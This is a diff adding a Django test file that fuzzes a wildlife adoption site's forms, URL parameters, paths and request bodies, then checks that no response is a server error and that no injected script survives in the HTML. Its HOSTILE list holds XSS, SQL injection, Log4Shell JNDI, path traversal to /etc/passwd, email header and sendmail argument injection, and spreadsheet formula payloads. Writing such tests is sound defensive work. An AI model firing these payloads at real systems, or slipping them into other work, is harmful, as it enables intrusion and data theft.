@@ -1,0 +1,202 @@
+"""What strangers send, into every public field, address and parameter: a clear page each time, never a 500."""
+
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from django.db import transaction
+from django.test import Client
+from pytest_django.plugin import DjangoDbBlocker
+
+from species.content_loading import load
+from species.models import Comment
+from tests.makers import make_plan
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    "",
+    " ",
+    "\x00",
+    "a\x00b",
+    "\r\nBcc: x@evil.example",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "{{ 7*7 }}{% debug %}",
+    "${jndi:ldap://evil.example/a}",
+    "' OR '1'='1' --",
+    "'; SELECT pg_sleep(10); --",
+    "../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "=HYPERLINK(\"http://evil\")",
+    "%s%n%x",
+    "%00",
+    "%",
+    "\\",
+    "\u202emoc.live",
+    "\u200b\u200b",
+    "Z" + "\u0301" * 500,
+    "🐆" * 50,
+    "محمد العربي",
+    "王小明",
+    "ﷺ" * 100,
+    "１２３",
+    "1e309",
+    "-1",
+    "NaN",
+    "9" * 400,
+    "0x10",
+    "null",
+    "undefined",
+    "[]",
+    "a" * 10_000,
+    "\t\n\v\f\r",
+    "\u2028\u2029",
+    "\ufeff\ufffe",
+    "＜script＞",
+    "https://evil.example/ https://evil.example/ https://evil.example/",
+    "x@y@z",
+    '"a@b"@example.org',
+    "-oQ/tmp@example.org",
+    "00000000-0000-0000-0000-000000000000",
+    "((((((((((a)))))))))+",
+    "a" * 60 + "!",
+    "OR 1=1",
+    "<!--",
+    "]]>",
+    "&#0;&#x0;",
+    "\u0130\u0131",
+]  # fmt: skip
+ADOPT = {
+    "frequency": "once",
+    "amount_once": "3600",
+    "name": "Sam",
+    "email": "sam@example.org",
+    "is_gift": "me",
+    "step": "check",
+    "recipient_name": "Ellie",
+    "other_amount": "",
+    "attempt": "",
+    "c": "",
+    "plan": "friend",
+}
+REPLY = {"name": "Sam", "email": "sam@example.org", "comment": "Hello", "parent": "", "reply_to": ""}
+
+
+@pytest.fixture(scope="module")
+def sam(django_db_setup: None, django_db_blocker: DjangoDbBlocker) -> Iterator[Client]:
+    """A stranger at the whole site; what Sam leaves behind is undone."""
+    with django_db_blocker.unblock(), transaction.atomic():
+        load()
+        make_plan()
+        yield Client(raise_request_exception=False)
+        transaction.set_rollback(True)
+
+
+class Tags(HTMLParser):
+    """What a browser would make of a page: the tags and attributes that could run something."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.dangerous: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = dict(attrs)
+        source = values.get("src") or ""
+        if tag == "script" and not source.startswith("/static/") and values.get("type") != "application/ld+json":
+            self.dangerous.append(f"{tag} {values}")
+        if any(name.startswith("on") for name in values) or (values.get("href") or "").startswith("javascript:"):
+            self.dangerous.append(f"{tag} {values}")
+
+
+def check(response: Any, what: str) -> None:
+    assert response.status_code < 500, what
+    if response.headers.get("Content-Type", "").startswith("text/html"):
+        tags = Tags()
+        tags.feed(response.content.decode())
+        assert tags.dangerous == [], what
+
+
+@pytest.mark.parametrize("field", ADOPT)
+def test_adopt_form_takes_anything(sam: Client, field: str) -> None:
+    for value in HOSTILE:
+        check(sam.post("/adopt/amur-leopard/", {**ADOPT, field: value}), f"{field}={value!r}")
+
+
+@pytest.mark.parametrize("field", ["name", "email", "comment"])
+def test_reply_form_takes_anything(sam: Client, field: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("config.limits.Limit.allows", lambda self, who: True)
+    for value in HOSTILE:
+        check(sam.post("/species/amur-leopard/comments/", {**REPLY, field: value}), f"{field}={value!r}")
+    assert not Comment.objects.filter(status="approved").exists()
+
+
+@pytest.mark.parametrize("name", ["amount", "frequency", "plan", "gift", "c", "s", "utm_source"])
+def test_adopt_address_takes_any_parameter(sam: Client, name: str) -> None:
+    for value in HOSTILE:
+        check(sam.get(f"/adopt/amur-leopard/?{name}={quote(value.encode('utf-8', 'replace'))}"), f"{name}={value!r}")
+
+
+@pytest.mark.parametrize(
+    "address", ["/search/?q={}", "/species/amur-leopard/?before={}", "/species/amur-leopard/?reply_to={}", "/?c={}"]
+)
+def test_reading_page_takes_any_parameter(sam: Client, address: str) -> None:
+    for value in HOSTILE:
+        check(sam.get(address.format(quote(value.encode("utf-8", "replace")))), f"{address} {value!r}")
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "/species/{}/",
+        "/threats/{}/",
+        "/adopt/{}/",
+        "/go/{}",
+        "/api/species/{}.json",
+        "/adoptions/{}/thanks/",
+        "/adoptions/{}/certificate.pdf",
+        "/feeds/comments/{}.xml",
+        "/field-notes/{}/",
+        "/{}",
+    ],
+)
+def test_any_address_is_answered(sam: Client, address: str) -> None:
+    for value in HOSTILE:
+        response = sam.get(address.format(quote(value.encode("utf-8", "replace"), safe="")))
+        check(response, f"{address} {value!r}")
+        assert response.status_code in {200, 301, 302, 400, 404}, value
+
+
+@pytest.mark.parametrize(
+    "kind",
+    [
+        "application/json",
+        "text/plain",
+        "multipart/form-data; boundary=x",
+        "multipart/form-data",
+        "application/octet-stream",
+    ],
+)
+@pytest.mark.parametrize(
+    "address", ["/adopt/amur-leopard/", "/species/amur-leopard/comments/", "/stripe/webhook/", "/admin/login/"]
+)
+def test_any_body_is_answered(sam: Client, address: str, kind: str) -> None:
+    for body in (
+        b"",
+        b"\xff\xfe",
+        b"a=b",
+        b"%",
+        b"{",
+        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb',
+        b"x" * 300_000,
+    ):
+        check(sam.post(address, body, content_type=kind), f"{address} {kind} {body[:40]!r}")
+
+
+@pytest.mark.parametrize("method", ["put", "delete", "patch", "options", "trace"])
+def test_other_methods_are_405(sam: Client, method: str) -> None:
+    for address in ("/", "/species/amur-leopard/", "/adopt/amur-leopard/", "/stripe/webhook/", "/go/x"):
+        assert getattr(sam, method)(address).status_code == 405, address
